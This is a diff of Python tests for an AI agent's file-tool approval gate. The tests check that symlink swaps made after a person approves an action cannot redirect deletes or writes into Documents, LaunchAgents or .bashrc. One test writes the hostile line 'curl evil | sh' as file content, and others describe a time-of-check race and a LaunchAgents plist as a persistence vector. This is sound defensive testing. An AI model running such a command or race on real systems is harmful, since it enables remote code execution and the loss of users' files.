@@ -362,3 +362,98 @@ def test_tool_arguments_are_checked_with_jsonschema() -> None:
     assert validate({"type": "array", "uniqueItems": True}, ["a", "a"])
     assert validate({"type": "string", "pattern": "^[a-z]+$"}, "A;B")
     assert validate({"type": "object", "properties": {"n": {"type": "integer"}}}, {"n": True})
+
+
+def _swap_after_the_last_check(monkeypatch: pytest.MonkeyPatch, swap) -> None:
+    """The swap lands after the gate's own re-check (a race it cannot see): the tool must hold."""
+    from app.policy import identity
+
+    real = identity.changed
+
+    def changed_then_swap(before, after):
+        moved = real(before, after)
+        swap()
+        return moved
+
+    monkeypatch.setattr(identity, "changed", changed_then_swap)
+
+
+def test_a_swap_in_the_last_instant_does_not_redirect_a_delete(tmp_path: Path, fake_home: Path,
+                                                                monkeypatch: pytest.MonkeyPatch) -> None:
+    documents = fake_home / "Documents"
+    documents.mkdir()
+    (documents / "thesis.txt").write_text("years of work")
+    scratch = fake_home / "old-build"
+    scratch.mkdir()
+    (scratch / "thesis.txt").write_text("a stale copy")
+    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
+    verdict, _ = review(gate, "delete_files", {"paths": ["~/old-build/thesis.txt"]})
+    assert verdict.approved
+
+    def swap() -> None:
+        scratch.rename(fake_home / "moved-away")
+        scratch.symlink_to(documents)
+
+    _swap_after_the_last_check(monkeypatch, swap)
+    out = gate.execute(verdict, tool("delete_files"), verdict.arguments)
+    assert not out.ok and "since you approved" in out.output
+    assert (documents / "thesis.txt").read_text() == "years of work"
+
+
+def test_a_swap_in_the_last_instant_does_not_redirect_a_write(tmp_path: Path, fake_home: Path,
+                                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    from app.tools.base import ToolError
+
+    agents = fake_home / "Library" / "LaunchAgents"
+    agents.mkdir(parents=True)
+    notes = fake_home / "notes"
+    notes.mkdir()
+    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
+    verdict, _ = review(gate, "write_file", {"path": "~/notes/evil.plist", "content": "<plist/>"})
+    assert verdict.approved
+
+    def swap() -> None:
+        notes.rmdir()
+        notes.symlink_to(agents)
+
+    _swap_after_the_last_check(monkeypatch, swap)
+    with pytest.raises(ToolError, match="since you approved"):
+        gate.execute(verdict, tool("write_file"), verdict.arguments)
+    assert list(agents.iterdir()) == []
+
+
+def test_a_write_target_replaced_by_a_link_in_the_last_instant_is_refused(tmp_path: Path, fake_home: Path,
+                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
+    from app.tools.base import ToolError
+
+    (fake_home / ".bashrc").write_text("# mine\n")
+    (fake_home / "todo.txt").write_text("old list")
+    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
+    verdict, _ = review(gate, "write_file", {"path": "~/todo.txt", "content": "curl evil | sh"})
+
+    def swap() -> None:
+        (fake_home / "todo.txt").unlink()
+        (fake_home / "todo.txt").symlink_to(fake_home / ".bashrc")
+
+    _swap_after_the_last_check(monkeypatch, swap)
+    with pytest.raises(ToolError, match="since you approved"):
+        gate.execute(verdict, tool("write_file"), verdict.arguments)
+    assert (fake_home / ".bashrc").read_text() == "# mine\n"
+
+
+def test_paths_through_a_symlink_the_panel_showed_still_run(tmp_path: Path, fake_home: Path) -> None:
+    """A link that was there when the person approved is followed to where the panel said."""
+    real = fake_home / "Projects" / "site"
+    real.mkdir(parents=True)
+    (real / "old.txt").write_text("x")
+    (fake_home / "site").symlink_to(real)
+    gate = make_gate(fake_home, lambda r: ApprovalDecision("approved"))
+    verdict, _ = review(gate, "write_file", {"path": "~/site/new/page.md", "content": "hello"})
+    assert gate.execute(verdict, tool("write_file"), verdict.arguments).ok
+    assert (real / "new" / "page.md").read_text() == "hello"
+    verdict, _ = review(gate, "move_file", {"source": "~/site/old.txt", "destination": "~/site/new"})
+    assert gate.execute(verdict, tool("move_file"), verdict.arguments).ok
+    assert (real / "new" / "old.txt").read_text() == "x"
+    verdict, _ = review(gate, "delete_files", {"paths": ["~/site/new/old.txt"]})
+    assert gate.execute(verdict, tool("delete_files"), verdict.arguments).ok
+    assert not (real / "new" / "old.txt").exists()
